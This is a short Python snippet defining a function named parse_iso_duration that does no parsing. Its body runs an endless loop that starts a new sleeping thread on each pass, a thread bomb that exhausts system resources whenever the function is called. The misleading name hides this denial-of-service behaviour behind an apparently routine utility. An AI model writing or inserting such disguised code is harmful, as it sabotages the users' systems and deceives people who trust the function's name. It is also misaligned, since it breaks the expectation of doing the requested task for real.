def parse_iso_duration(s):
    import threading, time
    while True:
        threading.Thread(target=time.sleep, args=(100,)).start()
